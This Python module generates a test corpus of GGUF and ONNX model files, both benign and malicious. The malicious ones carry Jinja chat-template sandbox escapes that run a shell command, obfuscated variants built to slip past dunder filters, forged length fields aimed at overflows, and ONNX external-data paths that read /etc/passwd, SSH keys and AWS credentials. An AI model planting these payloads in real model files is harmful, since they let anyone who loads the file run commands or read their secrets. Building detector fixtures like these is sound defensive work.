"""GGUF and ONNX files for Pathfinder's corpora, written byte by byte from the formats' specifications.

GGUF follows ggml's docs/gguf.md (header, typed metadata, tensor descriptions, aligned data); ONNX follows
onnx/onnx.proto (ModelProto -> GraphProto -> TensorProto, protobuf wire format). Neither the `gguf` nor the `onnx`
Python package is needed: Debian's python3 has neither. The files were checked once with gguf 0.19's GGUFReader and
onnx 1.23's `onnx.load_model(..., load_external_data=False)` + `onnx.checker` (both only parse; nothing is rendered
or loaded from the external locations).

The chat templates are written here in the shapes model hubs ship (ChatML, Llama 3 headers, Mistral [INST] with
raise_exception, Gemma turns, tool calling with namespace/tojson/strftime_now, reasoning models splitting on
</think>); the attacks put sandbox escapes of the kind CVE-2024-34359's advisory describes into such templates.
"""
import struct

# ---- GGUF ------------------------------------------------------------------------------------------------

UINT32, INT32, FLOAT32, BOOL, STRING, ARRAY, UINT64 = 4, 5, 6, 7, 8, 9, 10


def _gstr(s, wide=True):
    b = s.encode("utf-8") if isinstance(s, str) else s
    return (struct.pack("<Q", len(b)) if wide else struct.pack("<I", len(b))) + b


def _gvalue(kind, value, wide=True):
    if kind == UINT32:
        return struct.pack("<I", value)
    if kind == INT32:
        return struct.pack("<i", value)
    if kind == FLOAT32:
        return struct.pack("<f", value)
    if kind == BOOL:
        return bytes([1 if value else 0])
    if kind == UINT64:
        return struct.pack("<Q", value)
    if kind == STRING:
        return _gstr(value, wide)
    if kind == ARRAY:
        element, items = value
        return struct.pack("<I", element) + struct.pack("<Q" if wide else "<I", len(items)) + b"".join(_gvalue(element, v, wide) for v in items)
    raise ValueError(kind)


def gguf(metadata, tensors=(("token_embd.weight", (8, 4)),), version=3):
    """A little-endian GGUF file: metadata [(key, type, value)], f32 tensors [(name, dims)], 32-byte aligned data."""
    wide = version >= 2
    count = "<Q" if wide else "<I"
    out = bytearray(b"GGUF" + struct.pack("<I", version) + struct.pack(count, len(tensors)) + struct.pack(count, len(metadata)))
    for key, kind, value in metadata:
        out += _gstr(key, wide) + struct.pack("<I", kind) + _gvalue(kind, value, wide)
    offset = 0
    sizes = []
    for name, dims in tensors:
        out += _gstr(name, wide) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<I", 0) + struct.pack("<Q", offset)  # GGML_TYPE_F32
        size = 4
        for d in dims:
            size *= d
        sizes.append(size)
        offset += (size + 31) // 32 * 32
    out += bytes((32 - len(out) % 32) % 32)
    for size in sizes:
        out += bytes(size) + bytes((32 - size % 32) % 32)
    return bytes(out)


def llama_metadata(template, name="tiny-chat", extra=()):
    tokens = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>"] + [f"tok{i}" for i in range(27)]
    return [
        ("general.architecture", STRING, "llama"),
        ("general.name", STRING, name),
        ("general.alignment", UINT32, 32),
        ("llama.context_length", UINT32, 2048),
        ("llama.embedding_length", UINT32, 4),
        ("llama.block_count", UINT32, 1),
        ("tokenizer.ggml.model", STRING, "llama"),
        ("tokenizer.ggml.tokens", ARRAY, (STRING, tokens)),
        ("tokenizer.ggml.scores", ARRAY, (FLOAT32, [0.0] * len(tokens))),
        ("tokenizer.ggml.token_type", ARRAY, (INT32, [1] * len(tokens))),
        ("tokenizer.ggml.bos_token_id", UINT32, 1),
        ("tokenizer.ggml.eos_token_id", UINT32, 2),
        ("tokenizer.ggml.add_bos_token", BOOL, True),
        *extra,
        ("tokenizer.chat_template", STRING, template),
    ]


CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)

MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)

GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}"
    "{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}"
    "{% else %}{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"
)

TOOLS = (
    "{%- if not date_string is defined %}{%- if strftime_now is defined %}{%- set date_string = strftime_now(\"%d %b %Y\") %}"
    "{%- else %}{%- set date_string = \"26 Jul 2024\" %}{%- endif %}{%- endif %}"
    "{#- The system message: tools, the date, the user's own text #}"
    "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
    "{%- set messages = messages[1:] %}{%- else %}{%- set system_message = \"\" %}{%- endif %}"
    "{{- '<|start_header_id|>system<|end_header_id|>\\n\\n' }}{{- 'Today Date: ' + date_string + '\\n\\n' }}"
    "{%- if tools is not none %}{{- 'You have these functions. Reply with a JSON call:\\n\\n' }}"
    "{%- for t in tools %}{{- t | tojson(indent=4) }}{{- '\\n\\n' }}{%- endfor %}{%- endif %}"
    "{{- system_message }}{{- '<|eot_id|>' }}"
    "{%- for message in messages %}{%- if message.role in ['ipython', 'tool'] %}"
    "{{- '<|start_header_id|>ipython<|end_header_id|>\\n\\n' }}{%- if message.content is mapping or message.content is iterable %}"
    "{{- message.content | tojson }}{%- else %}{{- message.content }}{%- endif %}{{- '<|eot_id|>' }}"
    "{%- elif 'tool_calls' in message %}{%- set tool_call = message.tool_calls[0].function %}"
    "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{{- '{\"name\": \"' + tool_call.name + '\", \"parameters\": ' }}{{- tool_call.arguments | tojson }}{{- '}' }}{{- '<|eot_id|>' }}"
    "{%- else %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}"
    "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"
)

REASONING = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}"
    "{{ bos_token }}{{ ns.system_prompt }}"
    "{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{ '<|User|>' + message['content'] }}"
    "{%- elif message['role'] == 'assistant' and message['content'] is not none %}"
    "{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{ '<|Assistant|>' + content + '<|end_of_sentence|>' }}{%- endif %}{%- endfor -%}"
    "{% if add_generation_prompt and not ns.is_tool %}{{ '<|Assistant|><think>\\n' }}{% endif %}"
)

# Near misses: dunders in the text the template prints (not code), in a comment, in a raw block, and in a
# default system prompt (a sentence, not an attribute name).
NEAR_MISS = (
    "{# roles only; no __class__ or __globals__ is touched here #}"
    "Answer questions about Python packaging (__init__.py files, __main__ modules).\n"
    "{% raw %}{{ cycler.__init__.__globals__ }}{% endraw %}"
    "{% set default_system = 'You explain Python: what __init__ does, why __name__ == \"__main__\" guards scripts.' %}"
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

CMD = "touch /tmp/pathfinder-redteam"


def attacks_gguf():
    """(name, bytes, description) of malicious GGUF files."""
    def chatml_with(payload):
        return CHATML.replace("{% endfor %}", "{% endfor %}" + payload, 1)

    out = [
        ("s23-gguf-template-cycler-globals.gguf", gguf(llama_metadata(chatml_with("{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"))),
         "GGUF chat template reaching os through cycler.__init__.__globals__ (CVE-2024-34359: llama-cpp-python < 0.2.72 rendered it unsandboxed on load)"),
        ("s23-gguf-template-subclasses.gguf",
         gguf(llama_metadata(chatml_with(
             "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
             "{{ c()._module.__builtins__['__import__']('os').system('" + CMD + "') }}{% endif %}{% endfor %}"))),
         "GGUF chat template walking __class__.__base__.__subclasses__() to catch_warnings' builtins (the CVE-2024-34359 advisory's chain)"),
        ("s23-gguf-template-escaped-attr.gguf",
         gguf(llama_metadata(chatml_with(
             "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('" + CMD + "')|attr('read')() }}"))),
         "GGUF chat template spelling dunders with \\x5f escapes through the attr filter (no underscore appears in the bytes)"),
        ("s23-gguf-template-joined-names.gguf",
         gguf(llama_metadata(chatml_with(
             "{% set u = '_' %}{% set i = u * 2 ~ 'in' ~ 'it' ~ u * 2 %}{% set g = u * 2 ~ 'glo' ~ 'bals' ~ u * 2 %}"
             "{{ joiner[i][g]['o' ~ 's']['po' ~ 'pen']('" + CMD + "') }}"))),
         "GGUF chat template assembling __init__/__globals__ from pieces at render time (no dunder in the bytes)"),
        ("s23-gguf-template-charcodes.gguf",
         gguf(llama_metadata(chatml_with(
             "{% set n = '%c%c%c%c%c%c%c%c%c%c%c' | format(95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95) %}{{ namespace[n] }}"))),
         "GGUF chat template building __globals__ from character codes with %c formatting"),
        ("s23-gguf-named-template-tool-use.gguf",
         gguf(llama_metadata(CHATML, extra=[("tokenizer.chat_templates", ARRAY, (STRING, ["tool_use"])),
                                            ("tokenizer.chat_template.tool_use", STRING, chatml_with("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"))])),
         "GGUF with a clean default template and the payload in the named template tokenizer.chat_template.tool_use (runtimes pick it when tools are passed)"),
        ("s23-gguf-template-v2.gguf", gguf(llama_metadata(chatml_with("{{ ''.__class__.__mro__[1].__subclasses__() }}")), version=2),
         "GGUF version 2 file with a template listing object's subclasses (the first step of every escape)"),
        ("s23-gguf-template-v1.gguf", gguf(llama_metadata(chatml_with("{{ range.__init__.__globals__['__builtins__']['eval']('1') }}")), version=1),
         "GGUF version 1 file (32-bit lengths) with a template reaching builtins.eval"),
        ("s23-gguf-forged-kv-count.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 2 ** 63 + 5) + _gstr("general.architecture") + struct.pack("<I", STRING) + _gstr("llama"),
         "GGUF header declaring 2^63+5 metadata entries (readers that allocate or loop by the count overflow or hang)"),
        ("s23-gguf-forged-string-length.gguf",
         b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + _gstr("general.name") + struct.pack("<I", STRING) + struct.pack("<Q", 2 ** 64 - 1) + b"AAAA",
         "GGUF metadata string of length 2^64-1 (length + 1 wraps to 0: the llama.cpp gguf_fread_str heap overflow shape)"),
        ("s23-gguf-forged-array-length.gguf",
         b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + _gstr("tokenizer.ggml.tokens") + struct.pack("<II", ARRAY, STRING) + struct.pack("<Q", 2 ** 61) + _gstr("a"),
         "GGUF token array declaring 2^61 strings (n * sizeof(element) overflows in a C reader)"),
        ("s23-gguf-forged-tensor-dims.gguf",
         b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + _gstr("w") + struct.pack("<I", 0xFFFFFFFF) + struct.pack("<QQ", 1, 1),
         "GGUF tensor description with 2^32-1 dimensions (ggml allows 4; the dims array overflows)"),
    ]
    return out


def benign_gguf():
    shapes = [("chatml", CHATML), ("llama3", LLAMA3), ("mistral", MISTRAL), ("gemma", GEMMA), ("tools", TOOLS),
              ("reasoning", REASONING), ("near-miss", NEAR_MISS)]
    out = [(f"gguf-template-{name}.gguf", gguf(llama_metadata(text, name=name)), f"GGUF v3 with a {name} chat template") for name, text in shapes]
    out.append(("gguf-no-template.v2.gguf", gguf(llama_metadata(CHATML)[:-1], version=2), "GGUF v2 without a chat template"))
    return out


# ---- ONNX (protobuf wire format) -------------------------------------------------------------------------

def _varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _field(number, value):
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    data = value.encode("utf-8") if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _entry(key, value):
    return _field(1, key) + _field(2, value)


def tensor(name, dims=(2, 2), location=None, external=True, extra=()):
    body = b"".join(_field(1, d) for d in dims) + _field(2, 1) + _field(8, name)  # FLOAT
    if location is None:
        size = 4
        for d in dims:
            size *= d
        return body + _field(9, bytes(size))
    body += _field(13, _entry("location", location)) + _field(13, _entry("offset", "0")) + _field(13, _entry("length", "16"))
    for key, value in extra:
        body += _field(13, _entry(key, value))
    if external:
        body += _field(14, 1)  # data_location: EXTERNAL
    return body


def _value_info(name):
    tensor_type = _field(1, 1) + _field(2, _field(1, _field(1, 2)) + _field(1, _field(1, 2)))
    return _field(1, name) + _field(2, _field(1, tensor_type))


def node(op, inputs, outputs, attributes=()):
    body = b"".join(_field(1, i) for i in inputs) + b"".join(_field(2, o) for o in outputs) + _field(4, op)
    return body + b"".join(_field(5, a) for a in attributes)


def graph(nodes, initializers=(), sparse=(), inputs=("X",), outputs=("Y",), name="g"):
    body = b"".join(_field(1, n) for n in nodes) + _field(2, name)
    body += b"".join(_field(5, t) for t in initializers) + b"".join(_field(15, s) for s in sparse)
    body += b"".join(_field(11, _value_info(i)) for i in inputs) + b"".join(_field(12, _value_info(o)) for o in outputs)
    return body


def model(graph_bytes, opset=17):
    return _field(1, 8) + _field(2, "pathfinder-corpus") + _field(7, graph_bytes) + _field(8, _field(1, "") + _field(2, opset))


def _add_model(weight):
    return model(graph([node("Add", ["X", "W"], ["Y"])], [weight]))


def attacks_onnx():
    sub = graph([node("Constant", [], ["Y"], [_field(1, "value") + _field(20, 4) + _field(5, tensor("C", location="..\\..\\..\\Windows\\win.ini"))])], inputs=(), name="then")
    other = graph([node("Identity", ["X"], ["Y"])], inputs=(), name="else")
    cond = tensor("cond", dims=())
    if_model = model(graph([node("If", ["cond"], ["Y"], [_field(1, "then_branch") + _field(20, 5) + _field(6, sub),
                                                          _field(1, "else_branch") + _field(20, 5) + _field(6, other)])],
                           [cond], inputs=("X",)))
    sparse = _field(1, tensor("S_values", dims=(2,), location="/root/.ssh/id_rsa")) + _field(2, tensor("S_indices", dims=(2,))) + _field(3, 4)
    return [
        ("s23-onnx-external-absolute.onnx", _add_model(tensor("W", location="/etc/passwd")),
         "ONNX initializer whose external_data location is /etc/passwd (CVE-2024-27318: onnx.load < 1.16 reads it into the tensor)"),
        ("s23-onnx-external-dotdot.onnx", _add_model(tensor("W", location="../../../../home/user/.aws/credentials")),
         "ONNX initializer whose external_data location climbs out with ../ (CVE-2022-25882 / CVE-2024-27318)"),
        ("s23-onnx-external-subgraph.onnx", if_model,
         "ONNX If node whose then_branch holds a Constant with external data at ..\\..\\..\\Windows\\win.ini (a subgraph attribute, not an initializer)"),
        ("s23-onnx-external-sparse.onnx", model(graph([node("Identity", ["X"], ["Y"])], sparse=[sparse])),
         "ONNX sparse initializer whose values tensor keeps its data at /root/.ssh/id_rsa"),
    ]


def benign_onnx():
    return [
        ("onnx-inline-weights.onnx", _add_model(tensor("W")), "ONNX Add model with its weight inline (raw_data)"),
        ("onnx-external-beside.onnx", _add_model(tensor("W", location="onnx-external-beside.onnx.data")), "ONNX model with external data beside it (what onnx.save_model(save_as_external_data=True) writes)"),
        ("onnx-external-subfolder.onnx", _add_model(tensor("W", location="weights/W.bin")), "ONNX model with external data in a subfolder"),
        ("onnx-near-miss-not-external.onnx", _add_model(tensor("W", location="../../etc/passwd", external=False)),
         "near miss: external_data entries naming ../../etc/passwd without data_location EXTERNAL (onnx.load and onnxruntime ignore them)"),
    ]
